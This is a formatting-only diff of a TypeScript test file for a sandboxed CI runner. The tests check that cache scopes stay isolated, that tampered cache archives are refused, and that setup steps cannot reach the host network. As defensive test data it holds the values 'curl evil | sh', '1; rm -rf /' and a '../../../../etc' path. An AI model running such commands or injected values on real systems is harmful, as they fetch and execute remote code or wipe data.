@@ -12,12 +12,22 @@ import path from 'node:path';
 import { afterAll, describe, expect, it } from 'vitest';
 import { outboundUnavailable } from '../../helpers/host.js';
 import { makeProject, outputOf, removeProjects, type Project } from '../../helpers/project.js';
-import { abstractServer, editMeta, filesContaining, loopbackServer, readAbstractSocket, tamperedArchive, token, treeListing } from './caches-network-helpers.js';
+import {
+  abstractServer,
+  editMeta,
+  filesContaining,
+  loopbackServer,
+  readAbstractSocket,
+  tamperedArchive,
+  token,
+  treeListing,
+} from './caches-network-helpers.js';
 
 afterAll(removeProjects);
 
 const NO_OUTBOUND = outboundUnavailable();
-if (NO_OUTBOUND) console.log(`skipped: the attempts on a setup step's default network (outbound) as this user: ${NO_OUTBOUND}; network: none and host still run`);
+if (NO_OUTBOUND)
+  console.log(`skipped: the attempts on a setup step's default network (outbound) as this user: ${NO_OUTBOUND}; network: none and host still run`);
 
 /** Every byte the run showed: both streams. */
 const shown = (result: { stdout: string; stderr: string }) => `${result.stdout}\n${result.stderr}`;
@@ -77,7 +87,9 @@ ${stepTwo ? '      - run: (cat ~/.cache/tool/payload 2>/dev/null || echo step-sa
     const pr = await project.cubicle(['run'], { env: { ...github, GITHUB_EVENT_NAME: 'pull_request', GITHUB_REF: 'refs/pull/31/merge' } });
     expect(pr.exitCode, shown(pr)).toBe(0);
     // pull_request_target: the base's ref, but possibly the pull request's code: a scope of its own too.
-    const target = await project.cubicle(['run'], { env: { ...github, GITHUB_EVENT_NAME: 'pull_request_target', GITHUB_REF: 'refs/heads/main', GITHUB_HEAD_REF: 'evil' } });
+    const target = await project.cubicle(['run'], {
+      env: { ...github, GITHUB_EVENT_NAME: 'pull_request_target', GITHUB_REF: 'refs/heads/main', GITHUB_HEAD_REF: 'evil' },
+    });
     expect(shown(target)).not.toContain(poison);
     const main = await project.cubicle(['run'], { env: { ...github, GITHUB_EVENT_NAME: 'push', GITHUB_REF: 'refs/heads/main', GITHUB_REF_NAME: 'main' } });
     expect(main.exitCode, shown(main)).toBe(0);
@@ -95,19 +107,23 @@ ${stepTwo ? '      - run: (cat ~/.cache/tool/payload 2>/dev/null || echo step-sa
     ['above the checkout', (project) => path.dirname(project.dir)],
     ['~/.. (out of the home)', () => '~/..'],
   ];
-  it.each(destinations)('a cache over %s: exit 2 naming the key and the value, nothing run', async (_label, destination) => {
-    const ran = `RAN-${token()}`;
-    const project = makeProject('');
-    const value = destination(project);
-    fs.writeFileSync(project.file('cubicle.config.yaml'), `jobs:\n  evil:\n    caches: ["${value}"]\n    run: echo ${ran}\n`);
-    const result = await project.cubicle(['run']);
-    expect(result.exitCode, shown(result)).toBe(2);
-    expect(result.stderr).toContain('jobs.evil.caches.0');
-    expect(result.stderr).toContain(`"${value}"`);
-    expect(result.stderr).toContain('nothing was run');
-    expect(shown(result)).not.toContain(ran);
-    expect(fs.existsSync(path.join(project.cacheDir, 'caches'))).toBe(false);
-  }, 30_000);
+  it.each(destinations)(
+    'a cache over %s: exit 2 naming the key and the value, nothing run',
+    async (_label, destination) => {
+      const ran = `RAN-${token()}`;
+      const project = makeProject('');
+      const value = destination(project);
+      fs.writeFileSync(project.file('cubicle.config.yaml'), `jobs:\n  evil:\n    caches: ["${value}"]\n    run: echo ${ran}\n`);
+      const result = await project.cubicle(['run']);
+      expect(result.exitCode, shown(result)).toBe(2);
+      expect(result.stderr).toContain('jobs.evil.caches.0');
+      expect(result.stderr).toContain(`"${value}"`);
+      expect(result.stderr).toContain('nothing was run');
+      expect(shown(result)).not.toContain(ran);
+      expect(fs.existsSync(path.join(project.cacheDir, 'caches'))).toBe(false);
+    },
+    30_000,
+  );
 
   it('a job whose env makes ~/ the /usr: refused once HOME is known (exit 2), nothing mounted over /usr', async () => {
     const ran = `RAN-${token()}`;
@@ -166,7 +182,11 @@ describe('cache import: an archive never names host paths or other keys', () => 
   }, 60_000);
 
   const tampers: [string, string, (dir: string, id: string) => void][] = [
-    ['a key whose hash is not the id (the step changed)', "its id is not its key's hash", (dir, id) => editMeta(dir, id, (meta) => ((meta.key as Record<string, unknown>).run = 'curl evil | sh'))],
+    [
+      'a key whose hash is not the id (the step changed)',
+      "its id is not its key's hash",
+      (dir, id) => editMeta(dir, id, (meta) => ((meta.key as Record<string, unknown>).run = 'curl evil | sh')),
+    ],
     ['a parent naming another key', 'its key names the parent', (dir, id) => editMeta(dir, id, (meta) => (meta.parent = 'a'.repeat(64)))],
     ['a path field with ../', "meta.json is not a layer's", (dir, id) => editMeta(dir, id, (meta) => (meta.root = '../../../../etc'))],
     ['a size that is not a number', "meta.json is not a layer's", (dir, id) => editMeta(dir, id, (meta) => (meta.sizeBytes = '1; rm -rf /'))],
@@ -179,14 +199,18 @@ describe('cache import: an archive never names host paths or other keys', () => 
       },
     ],
   ];
-  it.each(tampers)('%s: refused, nothing imported, the store as it was', async (_label, problem, tamper) => {
-    const file = await tamperedArchive((await exported()).archive, tamper);
-    const { result, before, after } = await importInto(file);
-    expect(result.exitCode, shown(result)).toBe(1);
-    expect(result.stdout).toContain(problem);
-    expect(result.stdout).toContain('nothing was imported');
-    expect(after).toEqual(before);
-  }, 60_000);
+  it.each(tampers)(
+    '%s: refused, nothing imported, the store as it was',
+    async (_label, problem, tamper) => {
+      const file = await tamperedArchive((await exported()).archive, tamper);
+      const { result, before, after } = await importInto(file);
+      expect(result.exitCode, shown(result)).toBe(1);
+      expect(result.stdout).toContain(problem);
+      expect(result.stdout).toContain('nothing was imported');
+      expect(after).toEqual(before);
+    },
+    60_000,
+  );
 });
 
 describe("class 8: a setup step's default network is its own", () => {
@@ -216,13 +240,17 @@ ${line}    run: echo got; cat ~/got.txt
     }
   }
 
-  it.runIf(!NO_OUTBOUND)("the default (outbound): neither the host's 127.0.0.1 nor its abstract socket is reached; the secret is in no output and no layer", async () => {
-    const { secret, result, tcp, unix, layers } = await attempt(null);
-    expect(result.exitCode, shown(result)).toBe(0);
-    expect(shown(result)).not.toContain(secret);
-    expect([tcp, unix]).toEqual([0, 0]);
-    expect(layers).toEqual([]);
-  }, 90_000);
+  it.runIf(!NO_OUTBOUND)(
+    "the default (outbound): neither the host's 127.0.0.1 nor its abstract socket is reached; the secret is in no output and no layer",
+    async () => {
+      const { secret, result, tcp, unix, layers } = await attempt(null);
+      expect(result.exitCode, shown(result)).toBe(0);
+      expect(shown(result)).not.toContain(secret);
+      expect([tcp, unix]).toEqual([0, 0]);
+      expect(layers).toEqual([]);
+    },
+    90_000,
+  );
 
   it('network: none: neither is reached either', async () => {
     const { secret, result, tcp, unix, layers } = await attempt('none');
@@ -240,15 +268,19 @@ ${line}    run: echo got; cat ~/got.txt
     expect(layers.length).toBeGreaterThan(0);
   }, 90_000);
 
-  it.runIf(NO_OUTBOUND !== null)('where outbound cannot run as this user: exit 3 naming the step, the fix and the opt-in; the step never ran', async () => {
-    const { secret, result, tcp, unix, layers } = await attempt(null);
-    expect(result.exitCode, shown(result)).toBe(3);
-    expect(result.stderr).toContain('setup step 1 of job "reach"');
-    expect(result.stderr).toMatch(/apt-get install slirp4netns|chmod 0666 \/dev\/net\/tun/);
-    expect(result.stderr).toContain('`network: host`');
-    expect(result.stderr).toContain('explicit opt-in');
-    expect(shown(result)).not.toContain(secret);
-    expect([tcp, unix]).toEqual([0, 0]);
-    expect(layers).toEqual([]);
-  }, 90_000);
+  it.runIf(NO_OUTBOUND !== null)(
+    'where outbound cannot run as this user: exit 3 naming the step, the fix and the opt-in; the step never ran',
+    async () => {
+      const { secret, result, tcp, unix, layers } = await attempt(null);
+      expect(result.exitCode, shown(result)).toBe(3);
+      expect(result.stderr).toContain('setup step 1 of job "reach"');
+      expect(result.stderr).toMatch(/apt-get install slirp4netns|chmod 0666 \/dev\/net\/tun/);
+      expect(result.stderr).toContain('`network: host`');
+      expect(result.stderr).toContain('explicit opt-in');
+      expect(shown(result)).not.toContain(secret);
+      expect([tcp, unix]).toEqual([0, 0]);
+      expect(layers).toEqual([]);
+    },
+    90_000,
+  );
 });
